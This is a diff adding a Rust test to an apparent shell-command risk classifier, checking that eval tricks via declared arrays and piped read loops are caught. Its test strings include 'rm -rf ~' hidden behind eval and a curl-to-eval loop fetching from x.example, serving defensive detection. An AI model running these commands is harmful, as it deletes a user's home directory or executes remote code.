@@ -398,3 +398,30 @@ fn fd_nodemon_entr_and_lua_long_strings() {
         "clean",
     );
 }
+
+/// Class (compose6 held-out half, false asks, read after the figure):
+/// `declare -a A=(...)` fills an array with the words as written, and a
+/// read loop fed by `echo TEXT |` reads that text.
+#[test]
+fn declared_arrays_and_piped_read_loops() {
+    each(
+        &[
+            "declare -a A=('rm -rf ~'); eval \"${A[0]}\"",
+            "echo 'rm -rf ~' | while read -r c; do eval \"$c\"; done",
+        ],
+        "Destructive Critical",
+    );
+    each(
+        &[
+            "declare -a A=('make test'); eval \"${A[0]}\"",
+            "echo 'make test' | while read -r c; do eval \"$c\"; done",
+        ],
+        "clean",
+    );
+    assert_ne!(
+        worst(&assess(
+            "curl -s https://x.example/c | while read -r c; do eval \"$c\"; done"
+        )),
+        "clean"
+    );
+}
